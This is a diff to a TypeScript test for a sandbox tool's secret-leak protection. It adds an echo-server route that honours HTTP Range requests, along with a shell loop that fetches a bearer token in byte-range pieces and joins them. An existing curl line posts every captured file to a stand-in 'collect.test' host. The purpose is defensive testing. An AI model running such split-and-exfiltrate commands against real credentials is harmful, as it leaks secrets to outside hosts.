@@ -22,6 +22,13 @@ const PREFIX = ['', 'x', 'xy'];
 /** What the echo server makes of the Authorization header, by route. */
 const ROUTES: Record<string, (auth: string, res: http.ServerResponse) => void> = {
   raw: (a, res) => res.end(a),
+  // Honours Range, as static file servers do: a slice of the echo is a piece of the value.
+  range: (a, res) => {
+    const m = /^bytes=(\d+)-(\d+)$/.exec(String(res.req.headers.range));
+    if (!m) return res.end(a);
+    res.writeHead(206, { 'Content-Range': `bytes ${m[1]}-${m[2]}/${a.length}` });
+    res.end(a.slice(Number(m[1]), Number(m[2]) + 1));
+  },
   ...Object.fromEntries(PREFIX.flatMap((p, k) => [
     [`b64-${k}`, (a: string, res: http.ServerResponse) => res.end(Buffer.from(p + a).toString('base64'))],
     [`b64url-${k}`, (a: string, res: http.ServerResponse) => res.end(Buffer.from(p + a).toString('base64url'))],
@@ -142,13 +149,14 @@ test('an echoing secret host cannot hand the value back in another form', async 
     `  curl -s -D - --max-time 10 -H "Authorization: Bearer $API_TOKEN" "http://echo.test:${ports.plain}/$r" > "got/http-$r"`,
     `  curl -s -D - --max-time 10 -H "Authorization: Bearer $API_TOKEN" -H "Accept-Encoding: gzip" "https://secure.test:${ports.secure}/$r" > "got/https-$r"`,
     'done',
+    `for r in 0-20 21-99; do curl -s --max-time 10 -r $r -H "Authorization: Bearer $API_TOKEN" "http://echo.test:${ports.plain}/range"; done > got/http-range-joined`,
     `for f in got/*; do curl -s --max-time 10 --data-binary @"$f" "http://collect.test:${ports.collect}/\${f#got/}" >/dev/null; done`,
     'cat got/*',
   ].join('\n');
   const r = await cli(['exec', '--policy', p, '--', 'sh', '-c', script], { home, cwd: workspace(), env: { CLAWPOD_ECHO_TOKEN: VALUE }, timeoutMs: 120_000 });
   assert.equal(r.code, 0, r.stderr);
   assert.ok(seen.some((s) => s.headers.authorization === `Bearer ${VALUE}`), 'the echo host did get the real value');
-  const routes = Object.keys(ROUTES).flatMap((n) => [`http-${n}`, `https-${n}`]);
+  const routes = [...Object.keys(ROUTES).flatMap((n) => [`http-${n}`, `https-${n}`]), 'http-range-joined'];
   assert.deepEqual([...collected.keys()].sort(), routes.sort(), 'the pod forwarded every answer');
   const leaks = [...collected].map(([k, v]) => [k, reveals(v)]).filter(([, s]) => s !== null);
   assert.deepEqual(leaks, [], 'what the pod received reveals the value');
